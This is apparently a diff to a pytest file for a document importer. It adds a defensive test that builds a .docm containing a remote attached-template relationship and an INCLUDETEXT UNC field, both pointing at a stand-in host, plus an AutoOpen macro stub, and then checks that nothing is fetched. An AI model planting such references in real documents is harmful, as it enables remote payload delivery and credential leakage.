@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import socket
 from collections.abc import Callable
+from typing import NoReturn
 
 import pytest
 
 from annotator.core.exchange import IncomingArticle, Problem
-from tests.importing.makers import docx, epub, odt, packed, paragraph
+from tests.importing.makers import W, docx, epub, odt, packed, paragraph
 
 Read = Callable[..., tuple[list[IncomingArticle], list[Problem]]]
 
@@ -106,6 +108,28 @@ def test_bad_documents_give_one_sentence(read: Read, name: str, data: bytes, wor
     assert articles == []
     assert problem.where == name
     assert words in problem.sentence
+
+
+def test_macros_and_references_outside_are_not_looked_at(
+    read: Read, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A document with a macro, a template, a picture and a field from elsewhere is its text."""
+
+    def refuse(*_: object) -> NoReturn:
+        pytest.fail("something was fetched")
+
+    monkeypatch.setattr(socket, "socket", refuse)
+    outside = (
+        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+        '<Relationship Id="r1" Type="x/attachedTemplate" Target="http://198.51.100.1/t.dotm"'
+        ' TargetMode="External"/></Relationships>'
+    )
+    field = "<w:r><w:instrText>INCLUDETEXT \\\\198.51.100.1\\a.docx</w:instrText></w:r>"
+    body = paragraph("Ports agree") + f"<w:p>{field}<w:r><w:t>Next</w:t></w:r></w:p>"
+    files = {"word/document.xml": f'<w:document xmlns:w="{W}"><w:body>{body}</w:body></w:document>'}
+    files |= {"word/_rels/document.xml.rels": outside, "word/vbaProject.bin": "Sub AutoOpen()"}
+    articles, problems = read("a.docm", packed(files))
+    assert ([article.text for article in articles], problems) == (["Ports agree\nNext"], [])
 
 
 def test_a_locked_document_is_told(read: Read) -> None:
